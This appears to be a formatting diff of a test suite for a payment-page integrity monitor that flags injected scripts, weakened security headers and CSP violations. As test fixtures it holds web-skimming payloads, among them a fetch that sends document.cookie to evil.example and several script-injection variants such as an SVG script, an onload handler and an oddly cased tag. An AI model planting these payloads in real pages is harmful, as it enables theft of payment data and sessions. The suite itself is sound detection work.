@@ -63,7 +63,12 @@ describe('payment page monitor', () => {
     const app = await startApp();
     const baseline = await snapshot(app);
     expect(baseline.scripts).toEqual([
-      { kind: 'script', src: '/assets/index-Bx12cd34.js', hash: expect.stringMatching(/^sha384-/), attributes: { crossorigin: '', nonce: '', src: '/assets/index-Bx12cd34.js', type: 'module' } },
+      {
+        kind: 'script',
+        src: '/assets/index-Bx12cd34.js',
+        hash: expect.stringMatching(/^sha384-/),
+        attributes: { crossorigin: '', nonce: '', src: '/assets/index-Bx12cd34.js', type: 'module' },
+      },
     ]);
     expect(baseline.headers['content-security-policy']).toContain("'nonce-…'");
     expect(baseline.headers['cross-origin-embedder-policy']).toBeNull();
@@ -84,7 +89,10 @@ describe('payment page monitor', () => {
     const baseline = withoutPort(await snapshot(await startApp()));
     const index = path.join(clientDir, 'index.html');
     await writeFile(path.join(clientDir, 'assets', 'skimmer.js'), 'document.forms[0]?.addEventListener("submit", () => {});');
-    await writeFile(index, (await readFile(index, 'utf8')).replace('</head>', '<script nonce="__CSP_NONCE__" src="/assets/skimmer.js"></script></head>'));
+    await writeFile(
+      index,
+      (await readFile(index, 'utf8')).replace('</head>', '<script nonce="__CSP_NONCE__" src="/assets/skimmer.js"></script></head>'),
+    );
     // The server reads pages at startup: a tampered build shows after a restart.
     const tampered = withoutPort(await snapshot(await startApp()));
     expect(comparePage(baseline, tampered)).toEqual([expect.stringMatching(/script not in the baseline: \/assets\/skimmer\.js sha384-/)]);
@@ -95,22 +103,55 @@ describe('payment page monitor', () => {
     const app = await startTestApp({ clientDistDir: clientDir, hstsPreload: true });
     apps.push(app);
     const changed = withoutPort(await snapshot(app));
-    const weakened: PageSnapshot = { ...changed, headers: { ...changed.headers, 'cross-origin-embedder-policy': 'require-corp', 'content-security-policy': "default-src *" } };
+    const weakened: PageSnapshot = {
+      ...changed,
+      headers: { ...changed.headers, 'cross-origin-embedder-policy': 'require-corp', 'content-security-policy': 'default-src *' },
+    };
     const differences = comparePage(baseline, weakened);
-    expect(differences).toContain(`/: header strict-transport-security changed from "max-age=63072000; includeSubDomains" to "max-age=63072000; includeSubDomains; preload"`);
+    expect(differences).toContain(
+      `/: header strict-transport-security changed from "max-age=63072000; includeSubDomains" to "max-age=63072000; includeSubDomains; preload"`,
+    );
     expect(differences).toContain('/: header cross-origin-embedder-policy changed from (absent) to "require-corp"');
     expect(differences.some((line) => line.startsWith('/: header content-security-policy changed'))).toBe(true);
   });
 
   const SKIM = 'fetch("https://evil.example/?" + document.cookie)';
   it.each([
-    ['a third-party script', '<script src="https://evil.example/skim.js"></script>', /^script not in the baseline: https:\/\/evil\.example\/skim\.js \(third party, by URL\) \[src="https:\/\/evil\.example\/skim\.js"\]$/],
-    ['an inline script', `<script>${SKIM}</script>`, new RegExp(`^script not in the baseline: inline script ${escape(sha256(SKIM))} \\[\\]$`)],
-    ['an inline script with a stolen nonce', `<script nonce="__CSP_NONCE__">${SKIM}</script>`, new RegExp(`^script not in the baseline: inline script ${escape(sha256(SKIM))} \\[nonce\\]$`)],
-    ['a tag no regular expression expects', '<SCRIPT/src=//evil.example/skim.js ></SCRIPT>', /^script not in the baseline: \/\/evil\.example\/skim\.js \(third party, by URL\)/],
-    ['a script inside inline SVG', '<svg><script href="https://evil.example/skim.js"></script></svg>', /^script not in the baseline: https:\/\/evil\.example\/skim\.js \(third party/],
-    ['an inline event handler', `<img src="/images/enamel-mug.svg" onload='${SKIM}'>`, new RegExp(`^script not in the baseline: inline onload ${escape(sha256(SKIM))} \\[element="img"\\]$`)],
-    ['a module preload of a third-party script', '<link rel="modulepreload" href="https://evil.example/skim.js">', /^script not in the baseline: https:\/\/evil\.example\/skim\.js \(modulepreload\)/],
+    [
+      'a third-party script',
+      '<script src="https://evil.example/skim.js"></script>',
+      /^script not in the baseline: https:\/\/evil\.example\/skim\.js \(third party, by URL\) \[src="https:\/\/evil\.example\/skim\.js"\]$/,
+    ],
+    [
+      'an inline script',
+      `<script>${SKIM}</script>`,
+      new RegExp(`^script not in the baseline: inline script ${escape(sha256(SKIM))} \\[\\]$`),
+    ],
+    [
+      'an inline script with a stolen nonce',
+      `<script nonce="__CSP_NONCE__">${SKIM}</script>`,
+      new RegExp(`^script not in the baseline: inline script ${escape(sha256(SKIM))} \\[nonce\\]$`),
+    ],
+    [
+      'a tag no regular expression expects',
+      '<SCRIPT/src=//evil.example/skim.js ></SCRIPT>',
+      /^script not in the baseline: \/\/evil\.example\/skim\.js \(third party, by URL\)/,
+    ],
+    [
+      'a script inside inline SVG',
+      '<svg><script href="https://evil.example/skim.js"></script></svg>',
+      /^script not in the baseline: https:\/\/evil\.example\/skim\.js \(third party/,
+    ],
+    [
+      'an inline event handler',
+      `<img src="/images/enamel-mug.svg" onload='${SKIM}'>`,
+      new RegExp(`^script not in the baseline: inline onload ${escape(sha256(SKIM))} \\[element="img"\\]$`),
+    ],
+    [
+      'a module preload of a third-party script',
+      '<link rel="modulepreload" href="https://evil.example/skim.js">',
+      /^script not in the baseline: https:\/\/evil\.example\/skim\.js \(modulepreload\)/,
+    ],
   ])('detects %s injected into the payment page', async (_name, tag, expected) => {
     const baseline = withoutPort(await snapshot(await startApp(), PAYMENT.route));
     await inject(PAYMENT.file, tag, '</body>');
@@ -134,12 +175,16 @@ describe('payment page monitor', () => {
   it('detects a second copy of an approved script', async () => {
     const baseline = withoutPort(await snapshot(await startApp()));
     await inject('index.html', '<script type="module" crossorigin nonce="__CSP_NONCE__" src="/assets/index-Bx12cd34.js"></script>');
-    expect(comparePage(baseline, withoutPort(await snapshot(await startApp())))).toEqual([expect.stringMatching(/^\/: script not in the baseline: \/assets\/index-Bx12cd34\.js sha384-/)]);
+    expect(comparePage(baseline, withoutPort(await snapshot(await startApp())))).toEqual([
+      expect.stringMatching(/^\/: script not in the baseline: \/assets\/index-Bx12cd34\.js sha384-/),
+    ]);
   });
 
   it('records every security header the server sends, and the ones it must not send as absent', async () => {
     const { headers } = await snapshot(await startApp(), PAYMENT.route);
-    expect(WATCHED_HEADERS).toEqual(expect.arrayContaining([...EVERY_RESPONSE_HEADERS, ...HTML_ONLY_HEADERS, ...ABSENT_HEADERS, 'cache-control']));
+    expect(WATCHED_HEADERS).toEqual(
+      expect.arrayContaining([...EVERY_RESPONSE_HEADERS, ...HTML_ONLY_HEADERS, ...ABSENT_HEADERS, 'cache-control']),
+    );
     for (const name of [...EVERY_RESPONSE_HEADERS, ...HTML_ONLY_HEADERS]) expect(headers[name], name).toEqual(expect.any(String));
     for (const name of ABSENT_HEADERS) expect(headers[name], name).toBeNull();
     expect(headers['cache-control']).toBe('no-store');
@@ -156,12 +201,18 @@ describe('payment page monitor', () => {
       const changed: PageSnapshot = { ...current, headers: { ...current.headers, [name]: 'changed' } };
       const ifRemoved = before === null ? [] : [`${PAYMENT.route}: header ${name} changed from ${JSON.stringify(before)} to (absent)`];
       expect(comparePage(baseline, removed), name).toEqual(ifRemoved);
-      expect(comparePage(baseline, changed), name).toEqual([`${PAYMENT.route}: header ${name} changed from ${before === null ? '(absent)' : JSON.stringify(before)} to "changed"`]);
+      expect(comparePage(baseline, changed), name).toEqual([
+        `${PAYMENT.route}: header ${name} changed from ${before === null ? '(absent)' : JSON.stringify(before)} to "changed"`,
+      ]);
     }
   });
 
   it('flags a tag whose integrity no longer matches what is served', () => {
-    const page: PageSnapshot = { url: '/', headers: {}, scripts: [{ kind: 'script', src: '/a.js', hash: 'sha384-NEW', attributes: { integrity: 'sha384-OLD', src: '/a.js' } }] };
+    const page: PageSnapshot = {
+      url: '/',
+      headers: {},
+      scripts: [{ kind: 'script', src: '/a.js', hash: 'sha384-NEW', attributes: { integrity: 'sha384-OLD', src: '/a.js' } }],
+    };
     expect(comparePage(page, page)).toEqual(['/: /a.js is served with sha384-NEW but its tag says integrity sha384-OLD']);
   });
 
@@ -178,7 +229,20 @@ async function monitorCli(app: TestApp, pages = ['/']) {
   await writeFile(caFile, app.ca);
   return (...args: string[]) =>
     new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
-      const child = spawn(process.execPath, [...tsxNodeArgs('scripts/monitor/cli.ts'), app.url, ...pages.flatMap((page) => ['--page', page]), '--baseline', baseline, '--ca', caFile, ...args], { cwd: REPO_ROOT });
+      const child = spawn(
+        process.execPath,
+        [
+          ...tsxNodeArgs('scripts/monitor/cli.ts'),
+          app.url,
+          ...pages.flatMap((page) => ['--page', page]),
+          '--baseline',
+          baseline,
+          '--ca',
+          caFile,
+          ...args,
+        ],
+        { cwd: REPO_ROOT },
+      );
       let stdout = '';
       let stderr = '';
       child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
@@ -210,7 +274,12 @@ describe('npm run monitor', () => {
       const changed = await run('--alert-url', `https://localhost:${receiverPort}/alerts`);
       expect(changed.code).toBe(1);
       expect(changed.stdout).toMatch(/"level":50.*"alert":"payment-page-changed"/);
-      expect(alerts).toEqual([expect.objectContaining({ alert: 'payment-page-changed', differences: expect.arrayContaining([expect.stringContaining('script not in the baseline')]) })]);
+      expect(alerts).toEqual([
+        expect.objectContaining({
+          alert: 'payment-page-changed',
+          differences: expect.arrayContaining([expect.stringContaining('script not in the baseline')]),
+        }),
+      ]);
     } finally {
       await new Promise((resolve) => receiver.close(resolve));
     }
@@ -249,13 +318,25 @@ describeEachEngine('npm run monitor --csp-reports', (engine) => {
     const quiet = await run('--csp-reports', database.url, '--since', '1h');
     expect(quiet.code, quiet.stderr).toBe(0);
 
-    const report = { 'csp-report': { 'document-uri': `${app.url}/payment`, 'effective-directive': 'script-src-elem', 'blocked-uri': 'https://evil.example/skim.js' } };
-    const posted = await app.request('/csp-reports', { method: 'POST', headers: { 'Content-Type': 'application/csp-report' }, body: JSON.stringify(report) });
+    const report = {
+      'csp-report': {
+        'document-uri': `${app.url}/payment`,
+        'effective-directive': 'script-src-elem',
+        'blocked-uri': 'https://evil.example/skim.js',
+      },
+    };
+    const posted = await app.request('/csp-reports', {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/csp-report' },
+      body: JSON.stringify(report),
+    });
     expect(posted.status).toBe(204);
 
     const raised = await run('--csp-reports', database.url, '--since', '1h');
     expect(raised.code, raised.stderr).toBe(1);
-    expect(raised.stdout).toMatch(/"level":50.*CSP violation on https:\/\/localhost:\d+\/payment: script-src-elem blocked https:\/\/evil\.example \(1×/);
+    expect(raised.stdout).toMatch(
+      /"level":50.*CSP violation on https:\/\/localhost:\d+\/payment: script-src-elem blocked https:\/\/evil\.example \(1×/,
+    );
     expect(raised.stdout).not.toContain('CSP report flood');
   }, 60_000);
 
@@ -266,15 +347,37 @@ describeEachEngine('npm run monitor --csp-reports', (engine) => {
     const run = await monitorCli(app);
     expect((await run('--approve')).code).toBe(0);
 
-    const report = { 'csp-report': { 'document-uri': `${app.url}/payment`, 'effective-directive': 'script-src-elem', 'blocked-uri': 'https://evil.example/skim.js' } };
-    expect((await app.request('/csp-reports', { method: 'POST', headers: { 'Content-Type': 'application/csp-report' }, body: JSON.stringify(report) })).status).toBe(204);
+    const report = {
+      'csp-report': {
+        'document-uri': `${app.url}/payment`,
+        'effective-directive': 'script-src-elem',
+        'blocked-uri': 'https://evil.example/skim.js',
+      },
+    };
+    expect(
+      (
+        await app.request('/csp-reports', {
+          method: 'POST',
+          headers: { 'Content-Type': 'application/csp-report' },
+          body: JSON.stringify(report),
+        })
+      ).status,
+    ).toBe(204);
     // The flood goes straight to the store (csp-reports.test.ts sends it over HTTP).
     const flood = 29 * 20;
-    for (let i = 0; i < flood; i++) await app.cspReports.record({ documentUrl: `${app.url}/page-${i}`, directive: 'img-src', blockedUrl: `https://flood-${i}.example/x.gif` }, '198.51.100.9');
+    for (let i = 0; i < flood; i++)
+      await app.cspReports.record(
+        { documentUrl: `${app.url}/page-${i}`, directive: 'img-src', blockedUrl: `https://flood-${i}.example/x.gif` },
+        '198.51.100.9',
+      );
 
     const raised = await run('--csp-reports', database.url, '--since', '1h');
     expect(raised.code, raised.stderr).toBe(1);
-    expect(raised.stdout).toMatch(/"level":50.*CSP violation on https:\/\/localhost:\d+\/payment: script-src-elem blocked https:\/\/evil\.example \(1×/);
-    expect(raised.stdout).toContain(`CSP report flood: ${flood - DEFAULT_CSP_REPORT_QUOTA.perClient} reports not kept (over-quota ${flood - DEFAULT_CSP_REPORT_QUOTA.perClient})`);
+    expect(raised.stdout).toMatch(
+      /"level":50.*CSP violation on https:\/\/localhost:\d+\/payment: script-src-elem blocked https:\/\/evil\.example \(1×/,
+    );
+    expect(raised.stdout).toContain(
+      `CSP report flood: ${flood - DEFAULT_CSP_REPORT_QUOTA.perClient} reports not kept (over-quota ${flood - DEFAULT_CSP_REPORT_QUOTA.perClient})`,
+    );
   }, 60_000);
 });
